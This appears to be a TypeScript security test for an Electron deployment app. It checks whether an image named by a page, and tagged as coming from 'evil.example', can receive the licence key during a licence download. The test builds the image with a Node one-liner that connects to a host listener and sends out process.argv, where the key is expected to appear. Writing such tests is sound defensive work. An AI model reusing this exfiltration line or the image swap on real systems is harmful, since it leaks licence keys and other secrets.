import { partOf } from '../../electron/testing/part.ts';
import { scriptedImage } from '../../electron/testing/variant.ts';
import { docker } from '../fixtures/world.ts';
import { type Attack, broken, held } from './attack.ts';
import { HOST_SEEN_BY_CONTAINERS, listen } from './listener.ts';
import { until } from './wait.ts';

/** A page puts an image of its own into a deployment, and has the licence downloaded with it. */
export const foreignImage: Attack = {
  id: 'E2',
  what: 'an image that the page names gets the key',
  quick: true,
  async play(field) {
    const app = await field.start();
    const deployment = await app.define();
    const key = await app.pulled(deployment);
    const part = partOf(deployment);
    const ear = await listen(field, undefined, '0.0.0.0');
    const tell = `require('net').connect(${ear.port},'${HOST_SEEN_BY_CONTAINERS}',function(){this.end(process.argv.join(' '))})`;
    const built = await scriptedImage(part.reference, 'tells', tell);
    const reference = 'evil.example/reader/layout:1';
    await docker('tag', built, reference);
    await app.dialogs.answer('no');
    await app.ask('deployments.save', { ...deployment, parts: [{ ...part, reference }] });
    await app.run('license.download', { deploymentId: deployment.id, images: ['layout'], eulaAccepted: true }, 20_000);
    const got = await until(async () => ear.heard().includes(key), 3_000);
    return got ? broken('the image sent the key out') : held(`${ear.connections()} connections, without the key`);
  },
};
